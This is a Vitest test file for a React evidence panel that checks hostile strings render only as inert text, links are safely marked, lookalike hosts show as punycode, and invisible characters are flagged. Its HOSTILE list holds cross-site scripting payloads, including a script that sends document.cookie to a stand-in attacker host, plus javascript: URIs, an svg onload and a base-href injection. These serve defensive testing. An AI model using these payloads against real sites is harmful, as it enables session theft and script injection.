import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { ArgumentsView } from "@/app/(console)/_evidence/arguments-view";
import { EvidencePanel } from "@/app/(console)/_evidence/evidence-panel";
import { boundEvidence } from "@/lib/decisions/bound-evidence";
import { evidenceView } from "@/lib/decisions/evidence-view";
import { targetOf } from "@/lib/decisions/words";
import type { Json, JsonObject } from "@/lib/kernel/json";

const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";
const IMAGE = '<img src="https://evil.example/pixel.gif" onerror="alert(1)">';
const HOSTILE = [
  SCRIPT,
  IMAGE,
  "![pixel](https://evil.example/pixel.gif)",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "https://bank.example@evil.example/",
  "//evil.example/x",
  '"><svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=prefetch href="https://evil.example">',
  "}}</bdi></p><base href=//evil.example>",
];

/** Everywhere where evidence has a place. */
const evidence = (text: string): JsonObject => ({
  reason: text,
  confidence: text,
  sources: [text, { title: text, url: text, excerpt: text, more: { text } }, [text]],
  references: [{ name: text, href: text }],
  alternatives: [{ option: text, rejectedBecause: text }],
  proposedAction: { [text]: { deep: [text] } },
  [text]: { text },
});

function shown(text: string): string {
  const view = evidenceView(evidence(text) as Json);
  const args = { [text]: text, list: [text, { [text]: text }] };
  return renderToStaticMarkup(
    <>
      <EvidencePanel evidence={view && boundEvidence(view)} />
      <ArgumentsView value={args} label="Arguments" />
    </>,
  );
}

/** Elements that load, run, frame or send something. */
const ACTIVE =
  /<(script|img|image|iframe|frame|object|embed|link|style|base|meta|form|video|audio|source|svg[^>]*onload)\b/i;
/** An attribute of an element, not a word within a quoted one. */
const HANDLER = /<[a-z][\w-]*(?:\s+[\w:-]+(?:="[^"]*")?)*\s+on[a-z]+=/i;
const HIDDEN = /[\u200B\u202E\u2066\uFEFF\u{E0041}]/u;
const addresses = (html: string): string[] =>
  [...html.matchAll(/\b(?:href|src|srcset|action|data|poster)="([^"]*)"/g)].map((match) => match[1] ?? "");

describe("hostile evidence", () => {
  it.each(HOSTILE)("is shown as text only: %s", (text) => {
    const html = shown(text);
    // The whole page would be printed if it did not hold.
    expect(ACTIVE.exec(html)?.[0]).toBeUndefined();
    expect(HANDLER.exec(html)?.[0]).toBeUndefined();
    for (const address of addresses(html)) expect(address).toMatch(/^https?:\/\/[^/@]+(\/|$)/);
  });

  it("offers an address only as a marked link to another site that learns nothing", () => {
    const html = shown("https://docs.example/page?q=1");
    expect(addresses(html).length).toBeGreaterThan(0);
    const links = [...html.matchAll(/<a [^>]*>/g)].map((match) => match[0]);
    for (const link of links) {
      expect(link).toContain('rel="noopener noreferrer nofollow"');
      expect(link).toContain('referrerPolicy="no-referrer"');
      expect(link).toContain('target="_blank"');
    }
    expect(html.includes(">docs.example<")).toBe(true);
  });

  it("shows the host as it is, not as it looks", () => {
    expect(shown("https://раураl.example/").includes(">xn--")).toBe(true);
  });

  it.each(["pay\u202Eexe.pdf", "acme\u200Bbank", "a\u2066b", "\uFEFFstart", "tag\u{E0041}"])(
    "marks what cannot be seen: %j",
    (text) => {
      expect(HIDDEN.exec(shown(text))).toBeNull();
      expect(shown(text).includes("U+")).toBe(true);
      expect(targetOf({ name: text }, {})).not.toMatch(HIDDEN);
    },
  );

  it.each(["x", "<script>", "\u202E", "a b "])("bounds a mebibyte of %j", (part) => {
    const text = part.repeat(Math.ceil(1_048_576 / part.length));
    const view = evidenceView({ reason: text, sources: [text, { title: text }], proposedAction: { text }, more: text });
    const html = renderToStaticMarkup(<EvidencePanel evidence={view && boundEvidence(view)} />);
    expect(html.length).toBeLessThan(400_000);
    expect(html.includes("characters more")).toBe(true);
  });
});
